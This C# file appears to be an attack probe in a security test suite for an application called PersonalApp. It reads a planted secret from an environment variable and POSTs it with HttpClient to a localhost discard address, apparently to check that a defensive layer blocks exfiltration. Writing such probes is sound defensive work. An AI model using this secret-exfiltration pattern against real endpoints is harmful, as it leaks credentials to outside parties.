// Attack: Sends the planted secret out over HTTP with HttpClient to http://127.0.0.1:9/.
// Expect: layer1
using PersonalApp.SecurityTests.Contracts;
namespace Attacks;

using System;
using System.Net.Http;

public sealed class HttpClientExfiltrate : IProbe
{
    public string Run(ProbeInput input)
    {
        var secret = Environment.GetEnvironmentVariable("PERSONALAPP_PLANTED_SECRET") ?? input.Text;
        using var http = new HttpClient { Timeout = TimeSpan.FromSeconds(2) };
        try
        {
            using var content = new StringContent(secret);
            return http.PostAsync("http://127.0.0.1:9/collect?s=" + Uri.EscapeDataString(secret), content).GetAwaiter().GetResult().StatusCode.ToString();
        }
        catch (HttpRequestException e)
        {
            return "sent (or tried): " + e.Message;
        }
    }
}
